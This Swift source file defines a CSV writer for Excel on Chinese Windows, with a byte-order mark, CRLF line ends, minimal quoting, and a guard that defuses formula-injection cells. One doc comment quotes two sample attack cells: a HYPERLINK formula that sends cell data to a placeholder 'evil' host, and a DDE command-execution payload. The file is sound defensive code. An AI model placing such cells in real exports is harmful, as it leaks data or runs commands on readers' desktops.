import Foundation

/// Writes CSV that Excel on a Chinese Windows desktop opens correctly.
///
/// - A UTF-8 byte-order mark leads the file: without it Excel reads the bytes in the ANSI code
///   page (GBK) and every Chinese character turns into mojibake.
/// - Records end in CRLF, the line end RFC 4180 and Excel use.
/// - A cell is quoted only when it must be (it holds the separator, a quote or a line break), so
///   the file stays readable in a text editor.
/// - Cells that a spreadsheet would run as a formula are defused; see ``guardsFormulas``.
public struct CSVWriter: Sendable {
    /// The field separator, an ASCII byte.
    public let separator: UInt8
    /// Whether the output starts with a UTF-8 byte-order mark.
    public let includesBOM: Bool
    /// Whether cells beginning with `=`, `+`, `-`, `@`, a tab or a carriage return, and not
    /// plain numbers, get a leading `'`.
    ///
    /// Our exports hold text typed by citizens and grid workers (event descriptions, names,
    /// addresses). Opened in Excel or WPS, a cell such as `=HYPERLINK("http://evil/?"&A1,"点击")`
    /// or `=cmd|'/c calc'!A0` would run as a formula on a county official's desktop (CSV or
    /// formula injection). The apostrophe makes Excel show the cell as text; it is visible in the
    /// raw file and in other tools, a price worth paying. Numbers such as `-12.5` are left alone
    /// since they are not formulas and are common, and so is a lone "-" or "+", the "none" of
    /// many Chinese statistical tables, which no spreadsheet evaluates.
    public let guardsFormulas: Bool
    private var buffer: [UInt8]

    public init(separator: Unicode.Scalar = ",", includesBOM: Bool = true, guardsFormulas: Bool = true) {
        precondition(separator.isASCII && !["\"", "\r", "\n"].contains(separator), "separator must be plain ASCII")
        self.separator = UInt8(separator.value)
        self.includesBOM = includesBOM
        self.guardsFormulas = guardsFormulas
        self.buffer = includesBOM ? [0xEF, 0xBB, 0xBF] : []
    }

    /// Appends one record.
    public mutating func append<Cells: Sequence<String>>(_ row: Cells) {
        var first = true
        for cell in row {
            if !first { buffer.append(separator) }
            first = false
            appendCell(guardsFormulas ? Self.defused(cell) : cell)
        }
        buffer.append(contentsOf: [0x0D, 0x0A])
    }

    /// Appends records in order.
    public mutating func append<Rows: Sequence>(rows: Rows) where Rows.Element: Sequence<String> {
        for row in rows { append(row) }
    }

    /// The file written so far.
    public var data: Data { Data(buffer) }

    /// The file written so far as text; it starts with U+FEFF when ``includesBOM`` is set.
    public var string: String { String(decoding: buffer, as: UTF8.self) }

    /// A whole file in one call, with the default settings.
    public static func data<Rows: Sequence>(rows: Rows) -> Data where Rows.Element: Sequence<String> {
        var writer = CSVWriter()
        writer.append(rows: rows)
        return writer.data
    }

    private mutating func appendCell(_ cell: String) {
        let quote = UInt8(ascii: "\"")
        let needsQuotes = cell.utf8.contains { $0 == separator || $0 == quote || $0 == 0x0A || $0 == 0x0D }
        guard needsQuotes else {
            buffer.append(contentsOf: cell.utf8)
            return
        }
        buffer.append(quote)
        for byte in cell.utf8 {
            buffer.append(byte)
            if byte == quote { buffer.append(quote) }
        }
        buffer.append(quote)
    }

    /// The cell with a leading `'` when a spreadsheet would take it for a formula.
    static func defused(_ cell: String) -> String {
        guard let first = cell.utf8.first, cell != "-", cell != "+" else { return cell }
        switch first {
        case UInt8(ascii: "="), UInt8(ascii: "@"), 0x09, 0x0D:
            return "'" + cell
        case UInt8(ascii: "+"), UInt8(ascii: "-"):
            return isPlainNumber(cell.utf8) ? cell : "'" + cell
        default:
            return cell
        }
    }

    /// `[+-]digits[.digits]` (or `[+-].digits`), nothing else: no exponent, spaces or operators.
    static func isPlainNumber(_ text: String.UTF8View) -> Bool {
        var digits = 0, dots = 0
        for (offset, byte) in text.enumerated() {
            switch byte {
            case UInt8(ascii: "0")...UInt8(ascii: "9"): digits += 1
            case UInt8(ascii: "."): dots += 1
            case UInt8(ascii: "+") where offset == 0, UInt8(ascii: "-") where offset == 0: continue
            default: return false
            }
        }
        return digits > 0 && dots <= 1 && text.last != UInt8(ascii: ".")
    }
}
